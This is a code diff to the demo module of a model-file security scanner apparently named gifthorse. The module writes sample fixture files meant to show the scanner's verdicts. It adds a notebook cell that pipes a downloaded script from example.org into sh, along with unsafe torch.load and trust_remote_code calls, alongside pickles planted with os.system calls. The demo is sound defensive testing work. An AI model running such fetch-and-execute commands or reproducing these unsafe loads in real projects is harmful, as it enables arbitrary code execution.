@@ -7,6 +7,7 @@ opcode, and nothing here ever loads them.
 from __future__ import annotations
 
 import io
+import json
 import zipfile
 import zlib
 from dataclasses import dataclass
@@ -22,7 +23,7 @@ if TYPE_CHECKING:
 
     from scanner_core.findings import Report
 
-ENVIRONMENT: Final = Environment((("torch", "2.13.0"),))
+ENVIRONMENT: Final = Environment((("onnx", "1.20.1"), ("torch", "2.13.0")))
 """So that the outcomes are the same wherever the demo runs."""
 DATE: Final = (2020, 1, 1, 0, 0, 0)
 CALL: Final = """
@@ -88,6 +89,26 @@ import torch
 state = torch.load("planted.pt")
 model = torch.load("planted.pt", weights_only=False)
 """
+SERVE: Final = """\
+import onnx
+import torch
+
+judge = onnx.load("judge.onnx")
+state = torch.load("clean.pt")
+"""
+PREPARE: Final = """\
+import pickle
+
+with open("split.cache", "rb") as cache:
+    # gifthorse: ignore[unrestricted-unpickling] -- split.py writes it
+    split = pickle.load(cache)
+"""
+CELLS: Final = (
+    "!curl -s https://example.org/setup.sh | sh",
+    "import torch\nfrom transformers import AutoModel",
+    'AutoModel.from_pretrained("org/name", trust_remote_code=True)',
+    "torch.load(sys.argv[1], weights_only=False)\ntorch.load(x, weights_only=False)",
+)
 SCAN_NEXT: Final = """\
   gifthorse scan model.pt src/     any files and folders; --verbose says more
 """
@@ -111,8 +132,11 @@ EXAMPLES: Final = (
     ),
     Example("chain.pkl", "looks up os.system with getattr, calls it", Verdict.UNSAFE),
     Example("clean.pt", "a state dict as torch.save writes it", Verdict.CLEAN),
+    Example("evaluate.ipynb", "runs what it downloads", Verdict.UNSAFE),
     Example("forest.joblib", "compressed, with a call in a partial", Verdict.UNSAFE),
     Example("planted.pt", "clean.pt with a call of posix.system", Verdict.UNSAFE),
+    Example("prepare.py", "a comment says why a load is ignored", Verdict.CLEAN),
+    Example("serve.py", "loads with a version that has a weakness", Verdict.REVIEW),
     Example("train.py", "loads planted.pt in two ways", Verdict.UNSAFE),
 )
 
@@ -135,7 +159,10 @@ def write(folder: Path) -> None:
     (folder / "forest.joblib").write_bytes(forest)
     planted = proto + assemble(CALL) + assemble("POP") + state
     (folder / "planted.pt").write_bytes(_checkpoint("planted", planted))
-    (folder / "train.py").write_text(TRAIN, encoding="utf-8")
+    programs = {"prepare.py": PREPARE, "serve.py": SERVE, "train.py": TRAIN}
+    programs["evaluate.ipynb"] = _notebook(CELLS)
+    for name, text in programs.items():
+        (folder / name).write_text(text, encoding="utf-8", newline="\n")
 
 
 def try_next(folder: str, *, is_kept: bool) -> str:
@@ -157,11 +184,11 @@ def introduction(folder: str, *, is_kept: bool, verbose: bool = False) -> str:
     files = [f"  {each.name:{longest}}  {each.about}" for each in EXAMPLES]
     removed = "" if is_kept else " until the demo ends"
     lines = [
-        "Hostile files, but for one.  What they would run is `true`; none is loaded.",
+        "A project with hostile files; what they would run is `true`; none is loaded.",
         f"They are in {folder}{removed}.",
         *(["", *files] if verbose else []),
         "",
-        "$ gifthorse scan .          (as if torch 2.13 were installed)",
+        "$ gifthorse scan .          (as if torch 2.13 and onnx 1.20 were installed)",
     ]
     return "\n".join(lines) + "\n"
 
@@ -173,6 +200,23 @@ def surprises(report: Report) -> Iterator[str]:
         if (found := verdicts.get(example.name)) is not example.verdict:
             said = found.value if found else "not scanned"
             yield f"{example.name} must be {example.verdict.value}, but is {said}"
+
+
+def _notebook(sources: tuple[str, ...]) -> str:
+    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
+    cells = [
+        {
+            "cell_type": "code",
+            "execution_count": None,
+            "id": f"cell-{number}",
+            "metadata": {},
+            "outputs": [],
+            "source": text.splitlines(keepends=True),
+        }
+        for number, text in enumerate(sources, 1)
+    ]
+    document = {"cells": cells, "metadata": {"kernelspec": kernel}}
+    return json.dumps(document | {"nbformat": 4, "nbformat_minor": 5}, indent=1) + "\n"
 
 
 def _checkpoint(name: str, stream: bytes) -> bytes:
